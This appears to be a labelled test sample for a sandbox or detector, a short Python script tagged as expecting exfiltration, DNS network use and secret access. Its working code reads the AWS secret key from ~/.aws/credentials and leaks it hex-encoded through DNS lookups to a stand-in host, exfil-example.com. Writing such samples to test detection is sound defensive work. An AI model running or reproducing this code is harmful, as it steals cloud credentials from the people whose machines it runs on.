# expect: exfiltration network.dns secrets.access
# ruff: noqa (deliberately hostile or plain sample code, run inside the sandbox)
# Reads the AWS secret and leaks it hex-encoded in DNS labels, a name per chunk.
import os
import socket

text = open(os.path.expanduser("~/.aws/credentials")).read()
secret = [line.split("=", 1)[1].strip() for line in text.splitlines() if "secret" in line][0]
data = secret.encode().hex()
for i in range(0, len(data), 40):
    try:
        socket.gethostbyname(f"{data[i:i + 40]}.{i // 40}.x.exfil-example.com")
    except OSError:
        pass
